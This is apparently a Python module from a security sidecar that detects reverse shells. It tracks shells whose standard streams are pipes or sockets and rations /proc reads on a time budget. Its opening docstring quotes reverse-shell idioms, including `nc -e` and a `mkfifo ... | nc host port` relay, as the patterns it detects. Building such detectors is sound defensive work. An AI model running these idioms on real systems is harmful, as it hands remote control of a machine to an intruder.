"""Watching shells until it is known where their standard streams lead.

A tie may be there at the exec (`nc -e`), come a moment later (in `mkfifo f; sh <f | nc host port >f` the connection
opens after the shell started), or show only when a child answers (`cat <&5 | while read c; do $c >&5; done`). So a
shell whose streams are channels is looked at when it starts, a few times soon after, when a process of the task
opens a connection, and when it ends.

A child that answers may have ended before its streams were read. Then the connection itself tells: a shell that is fed
by one, has the same one above its streams, and since it was last fed something was sent back there.

A look reads /proc of other processes, which costs about 0.3 ms each: `look` is an argument, the relatives are read
first, and a budget bounds how much of the engine's time goes into it.
"""

from collections.abc import Callable, Collection, Iterable, Mapping, Sequence
from typing import Final

from msgspec import Struct

from outrider_sidecar.world.lineage import FoundTie, Graph, Held, feeding_connection, find_tie, through_own_task
from outrider_sidecar.world.shells import Shells, may_take_commands, takes_commands
from outrider_sidecar.world.streams import answers_to_socket, direct_tie, has_channel, speaks_on_own_descriptor
from outrider_sidecar.world.tree import MAX_DEAD_IN_FULL, Process, ProcessTree
from outrider_wire.events import (
    ConnectionOpened,
    Direction,
    ProcessId,
    SocketFacts,
    StdioTied,
)

LOOKS_AFTER_S: Final = (0.0, 0.02, 0.06, 0.16, 0.3, 0.6, 1.2, 2.5)
"""When a shell is looked at after it started; later only when a connection opens."""
PERSISTED_AFTER_S: Final = 0.15
"""How long a channel to a program with a connection must last before it is told of, and whether as a relay.

Just after a fork both ends still hold each other's descriptors, so that a relay looks busy; and a program that feeds
a script by pipe looks like a relay until it closes the pipe."""
MAX_WATCHED: Final = 512
"""Most shells watched; past that the oldest are let go, and counted."""
MAX_ENDED: Final = 64
"""Most processes that ended lately whose last descriptors are looked at."""
MAX_SYNS: Final = 8_192
MAX_BUSY_SHARE: Final = 0.2
"""Most of a processor's time that looks may take; a look beyond it waits for a later tick."""
MAX_CONNECTION_SHARE: Final = 0.05
"""The same for looks that a connection asked for: a busy service opens many while an operator's shell is open.

It never puts off a look that is due by itself."""
FREE_ANSWERS: Final = 4
ANSWER_EVERY_S: Final = 1.0
"""A shell whose children write to a connection is looked at so often freely, then at most at this interval."""

Look = Callable[[Iterable[Process]], tuple[list[Held], Mapping[int, SocketFacts]]]
"""Read what these processes hold now, and the facts of all sockets among it."""

Near = Callable[[int], Collection[int] | None]
"""The mount namespaces whose processes may feed a shell of this one; None for all."""

SpokeLast = Callable[[SocketFacts, ProcessId], bool]
"""Whether something was sent on a connection, in the network of a process, since something was received there."""

HasHeard = Callable[[SocketFacts, ProcessId], bool]
"""Whether anything was ever received on a connection, in the network of a process; True where nobody can tell."""

Monotonic = Callable[[], float]


class Watched(Struct):
    """A shell whose streams are channels that led nowhere remote yet."""

    process: Process
    since_s: float
    looks: int = 0
    uncertain_since_s: float = 0.0
    uncertain: FoundTie | None = None
    certain_only: bool = False
    """It was given a text that reads on: only a tie that no ordinary program makes is told of."""
    child: ProcessId | None = None
    """A child of it whose streams were not read: it may have answered."""


class TieTracker:
    """Finds reverse shells' ties. Belongs to the engine's thread; `tick` is called every few milliseconds.

    `spent` is the processor's time that the thread used, by which looks are rationed: waiting for a processor costs
    nobody anything. `near` says who belongs together, where many tasks are guarded: a shell is looked at among its own.
    """

    def __init__(
        self,
        tree: ProcessTree,
        shells: Shells,
        look: Look,
        *,
        clock: Monotonic,
        spent: Monotonic | None = None,
        near: Near = lambda _: None,
        spoke_last: SpokeLast = lambda _connection, _process: False,
        has_heard: HasHeard = lambda _connection, _process: True,
    ) -> None:
        self._tree = tree
        self._shells = shells
        self._look = look
        self._clock = clock
        self._spent = spent or clock
        self._near = near
        self._spoke_last = spoke_last
        self._has_heard = has_heard
        self._watched: dict[ProcessId, Watched] = {}
        self._told: dict[tuple[ProcessId, int], str] = {}
        self._syns: dict[tuple[str, int, str, int], None] = {}
        self._answers: dict[ProcessId, tuple[int, float]] = {}
        self._due_connections: set[int] = set()
        self._busy_until_s = 0.0
        self._connections_until_s = 0.0
        self.let_go = 0

    @property
    def restless(self) -> bool:
        """Whether a look is due soon."""
        return bool(self._due_connections) or any(w.looks < len(LOOKS_AFTER_S) for w in self._watched.values())

    def executed(self, process: Process, at_ns: int) -> list[StdioTied]:
        """Judge a program at its start; begin to watch it where only a later look can tell."""
        direct = direct_tie(process)
        is_shell = bool(process.stdio) and has_channel(process.stdio) and self._shells.is_shell(process)
        if direct is not None and (is_shell or direct.certain):
            return [*self._tell(process, direct, at_ns), *self._tell_hop(process, direct, at_ns)]
        if is_shell and (takes_commands(process) or may_take_commands(process)):
            self._watch(process)
            self._watched[process.id].certain_only = not takes_commands(process)
            if found := self._look_as_due([self._watched[process.id]], at_ns):
                return found
        if direct is None and (answering := answers_to_socket(process)):
            return self._answered(process, answering, at_ns)
        return self._answered_unseen(process, at_ns) if not process.stdio and process.seen == "exec" else []

    def connected(self, event: ConnectionOpened) -> None:
        """Learn who opened a connection; shells are looked at on the next tick."""
        if len(self._syns) >= MAX_SYNS:
            del self._syns[next(iter(self._syns))]
        self._syns[event.source, event.source_port, event.destination, event.destination_port] = None
        owner = self._tree.get(event.owner)
        if owner is not None and event.direction != "inbound" and self._shells.is_shell(owner):
            self._watch(owner)
        if event.direction != "inbound" and len(self._due_connections) < MAX_WATCHED:
            self._due_connections.add(event.mnt_ns)

    def exited(self, process: Process, at_ns: int) -> list[StdioTied]:
        """A shell's last descriptors, or a relay's, may tie what no look was in time for."""
        watched = self._watched.pop(process.id, None)
        if watched is not None:
            found = self._look_at([watched], at_ns)
            if not found and watched.uncertain is not None:
                return self._tell(process, watched.uncertain, at_ns)
            return found
        if any(s.protocol == "tcp" for s in process.held_sockets) and self._watched:
            mnt_ns = process.mnt_ns
            near = [watched for watched in self._watched.values() if self._may_feed(mnt_ns, watched.process)]
            return self._look_at(near, at_ns) if near else []
        return []

    def tick(self, at_ns: int) -> list[StdioTied]:
        """Take the looks that are due."""
        now_s = self._clock()
        if now_s < self._busy_until_s:
            return []
        opened: set[int] = set()
        if now_s >= self._connections_until_s:
            opened, self._due_connections = self._due_connections, set()
        due: list[Watched] = []
        asked: list[Watched] = []
        for watched in self._watched.values():
            if _is_due(watched, now_s):
                due.append(watched)
            elif any(self._may_feed(mnt_ns, watched.process) for mnt_ns in opened):
                asked.append(watched)
        found = self._look_as_due(due, at_ns) if due else []
        if asked:
            found += self._look_for_connections(asked, at_ns)
        return found

    def direction_of(self, connection: SocketFacts) -> Direction:
        """Who sent the SYN: as the tap saw it, else as the ports suggest."""
        ours = (connection.local, connection.local_port)
        theirs = (connection.remote, connection.remote_port)
        if (*ours, *theirs) in self._syns:
            return "outbound"
        return "inbound" if (*theirs, *ours) in self._syns else connection.direction

    def _watch(self, process: Process) -> None:
        if len(self._watched) >= MAX_WATCHED and process.id not in self._watched:
            del self._watched[next(iter(self._watched))]
            self.let_go += 1
        self._watched.setdefault(process.id, Watched(process, self._clock()))

    def _look_as_due(self, due: Sequence[Watched], at_ns: int) -> list[StdioTied]:
        for watched in due:
            watched.looks += 1
        return self._look_at(due, at_ns)

    def _look_for_connections(self, asked: Sequence[Watched], at_ns: int) -> list[StdioTied]:
        began_s = self._spent()
        found = self._look_at(asked, at_ns)
        self._connections_until_s = self._clock() + (self._spent() - began_s) / MAX_CONNECTION_SHARE
        return found

    def _look_at(self, watched: Sequence[Watched], at_ns: int) -> list[StdioTied]:
        """One look for several shells: their relatives first, then everybody."""
        began_s = self._spent()
        found: list[StdioTied] = []
        rest = list(watched)
        for reach in (self._relatives, self._neighbours):
            if not rest:
                break
            graph = self._graph(reach(rest), [one.process for one in rest])
            rest = [w for w in rest if not self._judge(w, graph, found, at_ns)]
        self._busy_until_s = self._clock() + (self._spent() - began_s) / MAX_BUSY_SHARE
        return found

    def _judge(self, watched: Watched, graph: Graph, found: list[StdioTied], at_ns: int) -> bool:
        """True where the shell was tied with certainty and need not be looked at again."""
        shell = graph.of(watched.process.id) or _as_held(watched.process)
        now_s = self._clock()
        lasted_s = now_s - watched.uncertain_since_s if watched.uncertain is not None else 0.0
        persisted = lasted_s >= PERSISTED_AFTER_S and not watched.certain_only
        tie = find_tie(shell, graph, persisted=persisted)
        if tie is None and watched.child is not None:
            tie = self._spoken(shell, watched.child, graph)
        if tie is None:
            return False
        if tie.tie == "pipe-near-socket" and watched.certain_only:
            return False
        if tie.tie == "pipe-near-socket" and lasted_s < PERSISTED_AFTER_S:
            if watched.uncertain is None:
                watched.uncertain, watched.uncertain_since_s = tie, now_s
            return False
        found.extend(self._tell(watched.process, tie, at_ns))
        found.extend(self._tell_hop(watched.process, tie, at_ns))
        self._watched.pop(watched.process.id, None)
        return True

    def _tell_hop(self, process: Process, tie: FoundTie, at_ns: int) -> list[StdioTied]:
        """An inbound connection from this very task may be a hop of one that leads out."""
        connection = tie.connection
        if connection.remote != connection.local or self.direction_of(connection) == "outbound":
            return []
        graph = self._graph(self._near_to([process], self._tree.living()), [process])
        onward = through_own_task(tie, graph)
        return self._tell(process, onward, at_ns) if onward is not None else []

    def _answered(self, child: Process, socket: SocketFacts, at_ns: int) -> list[StdioTied]:
        """A child writes to a connection: is its shell fed by the same one?"""
        shell = self._tree.get(child.parent)
        if shell is None or not self._shells.is_shell(shell) or not self._may_answer(shell.id):
            return []
        relatives = [shell, *(p for p in self._tree.living() if p.parent in (shell.id, shell.parent))]
        graph = self._graph(relatives, [shell], known={socket.inode: socket})
        shell_held = graph.of(shell.id) or _as_held(shell)
        if speaks_on_own_descriptor(shell_held, shell.stdio, child, socket) and self._has_heard(socket, shell.id):
            via = (f"descriptor of the shell is the connection, and pid {child.id.pid} answers on it",)
            return self._tell(shell, FoundTie("socket", socket, shell.id, via), at_ns)
        feeding = feeding_connection(shell_held, graph)
        if feeding is None or (feeding.remote, feeding.remote_port) != (socket.remote, socket.remote_port):
            return []
        via = (f"commands read from the connection, answers written to it by pid {child.id.pid}",)
        return self._tell(shell, FoundTie("socket", feeding, shell.id, via), at_ns)

    def _answered_unseen(self, child: Process, at_ns: int) -> list[StdioTied]:
        """A child ended before its streams were read: does its shell have a connection above its own?"""
        shell = self._tree.get(child.parent)
        if shell is None or not self._shells.is_shell(shell) or not self._may_answer(shell.id):
            return []
        graph = self._graph([shell], [shell])
        held = graph.of(shell.id)
        if held is None or not any(d.fd > 2 and graph.connection(d) for d in held.descriptors):
            return []
        self._watch(shell)
        watched = self._watched[shell.id]
        watched.child, watched.since_s, watched.looks = child.id, self._clock(), 0
        return self._look_as_due([watched], at_ns)

    def _spoken(self, shell: Held, child: ProcessId, graph: Graph) -> FoundTie | None:
        """A shell that is fed by a connection which it has above its streams, and which was answered on."""
        feeding = feeding_connection(shell, graph)
        if feeding is None or not any(d.fd > 2 and graph.connection(d) == feeding for d in shell.descriptors):
            return None
        if not self._spoke_last(feeding, shell.process):
            return None
        via = (f"commands read from the connection, and something sent back on it after pid {child.pid} was started",)
        return FoundTie("socket", feeding, shell.process, via)

    def _may_answer(self, shell: ProcessId) -> bool:
        """Whether a shell may be looked at because of what its children write to: a script may have thousands."""
        count, next_s = self._answers.pop(shell, (0, 0.0))
        now_s = self._clock()
        allowed = count < FREE_ANSWERS or now_s >= next_s
        self._answers[shell] = (count + 1, now_s + ANSWER_EVERY_S) if allowed else (count, next_s)
        if len(self._answers) > MAX_WATCHED:
            del self._answers[next(iter(self._answers))]
        return allowed

    def _tell(self, process: Process, tie: FoundTie, at_ns: int) -> list[StdioTied]:
        key = (process.id, tie.connection.inode)
        if self._told.get(key) == tie.tie or self._inherited(process, tie.connection.inode):
            return []
        if len(self._told) >= MAX_SYNS:
            del self._told[next(iter(self._told))]
        self._told[key] = tie.tie
        connection = tie.connection
        return [
            StdioTied(
                at_ns,
                process.id,
                tie.tie,
                self.direction_of(connection),
                holder=tie.holder,
                local=connection.local,
                local_port=connection.local_port,
                remote=connection.remote,
                remote_port=connection.remote_port,
                via=tie.via,
            )
        ]

    def _inherited(self, process: Process, inode: int) -> bool:
        """An ancestor was already told of with the same connection: what it starts has it from there."""
        return any((ancestor.id, inode) in self._told for ancestor in self._tree.ancestors(process))

    def _relatives(self, watched: Iterable[Watched]) -> list[Process]:
        near: dict[ProcessId, Process] = {}
        living = self._tree.living()
        for one in watched:
            shell = one.process
            near[shell.id] = shell
            for process in living:
                kin = process.parent in (shell.id, shell.parent) or process.id == shell.parent
                if kin or (shell.sid and process.sid == shell.sid):
                    near[process.id] = process
        return list(near.values())

    def _may_feed(self, mnt_ns: int, shell: Process) -> bool:
        """Whether what happens in a container may concern a shell; yes of what is in none that is known."""
        near = self._near(shell.mnt_ns) if mnt_ns else None
        return near is None or mnt_ns in near

    def _neighbours(self, watched: Iterable[Watched]) -> list[Process]:
        """Everybody who may feed one of these shells."""
        return self._near_to([one.process for one in watched], self._tree.living())

    def _near_to(self, shells: Iterable[Process], processes: list[Process]) -> list[Process]:
        places: set[int] = set()
        for mnt_ns in {shell.mnt_ns for shell in shells}:
            if (near := self._near(mnt_ns)) is None:
                return processes
            places.update(near)
        return [process for process in processes if process.mnt_ns in places]

    def _graph(
        self, reach: Iterable[Process], shells: Iterable[Process], *, known: Mapping[int, SocketFacts] | None = None
    ) -> Graph:
        """What these processes hold now, and what those near the shells that ended lately held at last."""
        held, sockets = self._look(reach)
        dead = self._near_to(shells, self._tree.recent_dead(limit=MAX_DEAD_IN_FULL))[:MAX_ENDED]
        last = {socket.inode: socket for process in dead for socket in process.held_sockets}
        return Graph(
            [*held, *(_as_held(process) for process in dead if process.held)], {**(known or {}), **sockets, **last}
        )


def _is_due(watched: Watched, now_s: float) -> bool:
    return watched.looks < len(LOOKS_AFTER_S) and now_s - watched.since_s >= LOOKS_AFTER_S[watched.looks]


def _as_held(process: Process) -> Held:
    """What a process held, by the records: at its end, or at its exec."""
    return Held(process.id, process.held or process.stdio, process.mnt_ns, process.parent)
